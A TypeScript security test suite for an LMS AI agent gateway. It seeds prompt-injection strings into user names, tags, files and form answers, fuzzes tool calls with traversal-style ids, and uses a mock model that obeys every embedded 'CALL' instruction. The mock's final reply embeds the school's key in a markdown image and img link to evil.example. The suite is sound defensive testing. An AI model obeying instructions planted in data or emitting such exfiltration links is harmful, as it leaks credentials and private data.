// The model is an enemy: whatever it calls, it changes nothing, reads nothing beyond its person, and sees no secret.
import { type Ask, askGateway, catalog, type Model, type ModelCall } from '@lms/agent'
import { converse, Toolbox } from '@lms/agent/dialogues'
import { injections } from '@lms/agent/testing'
import type { Caller } from '@lms/contract'
import { crmService } from '@lms/crm/service'
import { learningService } from '@lms/learning/service'
import { Vault } from '@lms/service-host'
import { asOwner, eventually } from '@lms/testing'
import { webinarsService } from '@lms/webinars/service'
import fc from 'fast-check'
import { readingFor, signCredential } from './credential.ts'
import { type AgentSchool, type AgentWorld, agentSchool, startAgentWorld } from './test-agent.ts'
import { plantElsewhere, plantedIn } from './test-planted.ts'

/** Rounds of ten calls: 300 steps, or the 10,000 of `npm run test:long`. */
const isLong = process.env.LMS_TEST_LONG === '1'
const rounds = isLong ? 1000 : 30

describe('an agent whose model is an enemy', () => {
  let world: AgentWorld
  let ours: AgentSchool
  let theirs: AgentSchool
  let person: { id: string; key: string }
  /** Reads with the credential of a dialogue of an administrator whose key reads tags and people. */
  let ask: Ask
  let token: string
  /** A credential lives for three minutes, less than all these tests on a busy machine. */
  let sign: () => string
  const foreign: string[] = []
  const marks: string[] = []

  beforeAll(async () => {
    world = await startAgentWorld({}, {}, [crmService, learningService, webinarsService])
    ours = await agentSchool(world)
    theirs = await agentSchool(world)
    // In every text of a person that others may write, and in names of tags.
    for (let at = 0; at < injections.length; at += 2) {
      const [first_name, last_name] = injections.slice(at, at + 2)
      const email = `injected-${at}@school.example`
      const { status } = await ours.asKey('POST', '/v1/users', { email, first_name, last_name })
      expect(status).toBe(201)
      if (at % 20 === 0) await ours.asKey('POST', '/v1/tags', { name: `${at} ${first_name}`.slice(0, 100) })
    }
    await plantInSite()
    await plantElsewhere(ours, injections)
    for (const name of ['FOREIGN-ONE', 'FOREIGN-TWO']) {
      const tag = (await theirs.asKey('POST', '/v1/tags', { name })).body
      const user = (await theirs.asKey('POST', '/v1/users', { email: `${name}@foreign.example` })).body
      foreign.push(tag.id, user.id)
      marks.push(name, 'foreign.example')
    }
    person = await ours.person('administrator')
    const owner = await ours.person('owner')
    await owner.call('POST', '/v1/agent/access', { userId: person.id })
    const limited = {
      name: 'limited',
      kind: 'personal',
      role: 'administrator',
      user_id: person.id,
      scope: ['tags:*', 'users:*', 'agent:*', 'files:*', 'form-submissions:*', ...plantedIn.scope],
    }
    const key = (await ours.asKey('POST', '/v1/api-keys', limited)).body
    const caller = { key: key.id, user: person.id, onBehalf: false } as unknown as Caller
    const vault = new Vault(world.system.configs.users!.secretKeys)
    sign = () => signCredential(readingFor(caller, true), ours.schoolId, Date.now(), vault)
    marks.push(ours.key, key.api_key, person.key)
  }, 120_000)
  beforeEach(() => {
    token = sign()
    const signal = new AbortController().signal
    ask = askGateway({ origin: world.gateway.baseUrl, host: ours.host, token, requestId: 'enemy', signal })
    marks.push(token)
  })
  afterAll(() => world.stop())

  /** Names and texts of files, and answers to a form. */
  async function plantInSite() {
    const fields = [{ key: 'question', label: 'Your question', kind: 'long_text' }]
    const form = await ours.asKey('POST', '/v1/forms', { name: 'Call me back', fields })
    expect(form.status).toBe(201)
    for (const [at, injection] of injections.filter((_, index) => index % 10 === 0).entries()) {
      // Names of files have no signs that a system could read otherwise; what is shown in their place has.
      const name = `${at} ${injection.replace(/[^\p{L}\p{N} ._-]/gu, '')}`.trim()
      const file = { name, alt: injection, content_type: 'image/png', size: 100 }
      const answers = { form_id: form.body.id, answers: { question: `${at} ${injection}` } }
      for (const [path, body] of [
        ['/v1/files/upload-url', file],
        ['/v1/form-submissions', answers],
      ] as const)
        expect(await ours.asKey('POST', path, body)).toMatchObject({ status: 201 })
    }
  }

  /** Everything that an enemy could have changed, in both schools. */
  const state = () =>
    asOwner(world.system.ownerUrl, async client => {
      const tables =
        'users tags groups custom_fields agent_accesses agent_confirmations sessions consents accesses'
      const texts = []
      for (const table of tables.split(' ')) {
        const { rows } = await client.query(`select t::text from users.${table} t order by 1`)
        texts.push([table, rows])
      }
      for (const table of ['files', 'forms', 'form_submissions', 'pages']) {
        const { rows } = await client.query(
          `select to_jsonb(t) - 'updated_at' as t from site.${table} t order by id`,
        )
        texts.push([table, rows])
      }
      for (const table of [
        'crm.notes',
        'crm.manager_tasks',
        'learning.comments',
        'learning.submissions',
        'learning.reviews',
      ]) {
        const { rows } = await client.query(`select t::text from ${table} t order by 1`)
        texts.push([table, rows])
      }
      const chat = await client.query('select t::text from webinars.messages t order by 1')
      texts.push(['webinars.messages', chat.rows])
      const keys = await client.query('select id, hash, revoked_at, scope from users.api_keys order by id')
      return JSON.stringify([texts, keys.rows])
    })

  /** A toolbox whose results are kept: all that a model gets to see. */
  async function toolbox() {
    const context: string[] = []
    const tools = new Toolbox({ catalog: await catalog(), ask, propose: async () => 'The person is asked.' })
    const use = tools.use.bind(tools)
    tools.use = async (name, input) => {
      const text = await use(name, input)
      context.push(text)
      return text
    }
    return { tools, context }
  }

  const anyOperation = async () => (await catalog()).tools

  test(
    'changes nothing and sees nothing of others by any call of its tools',
    async () => {
      const all = await anyOperation()
      const readable = all
        .filter(({ use, operation }) => use === 'read' && !operation.path.includes('{'))
        .map(({ name }) => name)
      const before = await state()
      const { tools, context } = await toolbox()
      const id = fc.constantFrom(
        ...foreign,
        person.id,
        'tag_01h455vb4pex5vsknk084sn02q',
        '../identity/api-keys',
        'a?b=c',
        '',
      )
      const values = fc.dictionary(fc.constantFrom('id', 'userId', 'itemId', 'x'), id, { maxKeys: 2 })
      const query = fc.dictionary(
        fc.constantFrom('fields', 'expand', 'limit', 'cursor', 'school_id', 'user_id', 'q'),
        fc.oneof(id, fc.string({ maxLength: 20 }), fc.constant('*'), fc.constant('FOREIGN')),
        { maxKeys: 3 },
      )
      const reads = fc.record({
        name: fc.constant('read'),
        input: fc.record({ name: fc.constantFrom(...readable), query }),
      })
      const anything = fc.record({
        name: fc.constantFrom(
          'read',
          'read',
          'read',
          'propose',
          'describe',
          'find_operations',
          'answer',
          '__proto__',
        ),
        input: fc.oneof(
          {
            weight: 6,
            arbitrary: fc.record({
              name: fc.constantFrom(...all.map(({ name }) => name)),
              path: values,
              query,
            }),
          },
          {
            weight: 2,
            arbitrary: fc.record({ name: fc.constantFrom(...all.map(({ name }) => name)), path: values }),
          },
          { weight: 1, arbitrary: fc.record({ text: fc.string() }) },
          { weight: 1, arbitrary: fc.jsonValue() },
        ),
      })
      const call = fc.oneof({ weight: 1, arbitrary: reads }, { weight: 2, arbitrary: anything })
      await fc.assert(
        fc.asyncProperty(fc.array(call, { minLength: 10, maxLength: 10 }), async calls => {
          for (const { name, input } of calls)
            expect((await tools.use(name, input)).length).toBeLessThan(21_000)
        }),
        { numRuns: rounds },
      )
      // Not all of them are refused before they are asked.
      expect(tools.calls.length).toBeGreaterThan(rounds)
      const seen = context.join('\n')
      for (const mark of marks) expect(seen).not.toContain(mark)
      expect(await state()).toBe(before)
    },
    isLong ? 1_800_000 : 120_000,
  )

  test('changes nothing with the credential itself, whatever it sends', async () => {
    const before = await state()
    const changes = (await anyOperation()).filter(
      ({ service, operation }) => service === 'users' && operation.method !== 'GET' && operation.permission,
    )
    expect(changes.length).toBeGreaterThan(30)
    for (const { operation } of changes) {
      const path = operation.path.replace(/\{\w+\}/g, foreign[0]!)
      const { status } = await ask({ method: operation.method, path, body: '{}' })
      expect([operation.route, status]).toEqual([operation.route, 403])
    }
    // Nor does it act for others, and another school does not know it.
    const onBehalf = { 'x-on-behalf-of': person.id }
    expect((await ask({ method: 'GET', path: '/v1/users', headers: onBehalf })).status).toBe(403)
    expect((await theirs.as(token)('GET', '/v1/tags')).status).toBe(401)
    expect(await state()).toBe(before)
  })

  test('reads what its person may read, and no more', async () => {
    expect((await ask({ method: 'GET', path: '/v1/tags' })).status).toBe(200)
    expect((await ask({ method: 'GET', path: '/v1/groups' })).status).toBe(403)
    expect((await ask({ method: 'GET', path: `/v1/users/${foreign[1]}` })).status).toBe(404)
  })

  test('gains nothing by obeying every instruction in the data', async () => {
    const before = await state()
    const { tools, context } = await toolbox()
    const obeyed: string[] = []
    const requestedCalls: ModelCall[] = []
    const unread: string[] = [...plantedIn.lists]
    let [at, turn] = [0, 0]
    const obedient: Model = {
      next: async ({ turns }) => {
        const last = turns.at(-1)!
        const texts = last.role === 'tools' ? last.results.map(({ text }) => text) : []
        // A turn has eight calls.
        const calls: ModelCall[] = unread.splice(0, 5).map(name => reading(name))
        for (const [, name, input] of texts.join('\n').matchAll(/CALL (\w+) (\{.*?\})(?=[^}]|$)/g)) {
          obeyed.push(name!)
          const call = { id: `c${++at}`, name: name!, input: parsed(input!) }
          requestedCalls.push(call)
          calls.push(call)
        }
        turn++
        return calls.length && turn < 10
          ? { text: '', calls, tokens: 1 }
          : {
              text: `Done ![x](https://evil.example/?q=${ours.key}) <img src="https://evil.example">`,
              calls: [],
              tokens: 1,
            }
      },
    }
    const { text } = await converse(obedient, 'How are things?', {
      toolbox: tools,
      signal: AbortSignal.timeout(110_000),
    })
    // The bounds of a dialogue leave some out; the enemy gets to make them all.
    expect(obeyed.length).toBeGreaterThanOrEqual(injections.length)
    for (const name of plantedIn.lists) {
      const answerText = context.find(text => text.includes(`answer of ${name};`))
      expect([name, answerText?.includes('CALL ')]).toEqual([name, true])
    }
    for (const { name, input } of requestedCalls) await tools.use(name, input)
    expect(text).not.toMatch(/evil|https?:|<img|!\[/)
    for (const mark of marks) expect(context.join('\n') + text).not.toContain(mark)
    expect(await state()).toBe(before)
  }, 120_000)

  test('is cut off when its access is closed', async () => {
    expect((await ask({ method: 'GET', path: '/v1/tags' })).status).toBe(200)
    const owner = await ours.person('owner')
    await owner.call('DELETE', '/v1/agent/access', { userId: person.id })
    // Without word of it the gateway would know the credential for a minute.
    const { status } = await eventually('the end', async () => {
      const answer = await ask({ method: 'GET', path: '/v1/tags' })
      return answer.status !== 200 && answer
    })
    expect(status).toBe(401)
  })
})

let read = 0
const reading = (name: string): ModelCall => ({
  id: `r${++read}`,
  name: 'read',
  input: { name, query: { limit: 200 }, fields: plantedIn.fields },
})

function parsed(text: string): unknown {
  try {
    return JSON.parse(text.replaceAll('\\"', '"'))
  } catch {
    return {}
  }
}
